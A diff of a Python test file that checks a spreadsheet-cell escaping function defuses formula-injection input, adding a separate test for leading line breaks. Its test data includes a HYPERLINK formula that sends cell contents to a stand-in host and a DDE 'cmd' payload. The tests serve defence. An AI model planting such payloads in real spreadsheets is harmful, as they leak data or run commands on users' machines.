@@ -20,8 +20,6 @@ from promptforge.http.sheets import cell, written
         "-1+1",
         "@SUM(A1)",
         "\tx=1",
-        "\r=1",
-        "\n=1",
         "  =1",
         '=HYPERLINK("http://a.example?"&A1)',
         "-2+3+cmd|' /C calc'!A0",
@@ -30,6 +28,11 @@ from promptforge.http.sheets import cell, written
 )
 def test_text_that_spreadsheets_would_take_for_a_formula_is_text(text: str) -> None:
     assert cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("line_break", ["\r", "\n"])
+def test_so_is_what_others_read_as_another_line(line_break: str) -> None:
+    assert cell(f"{line_break}=1") == f"'{line_break}'=1"
 
 
 @pytest.mark.parametrize(
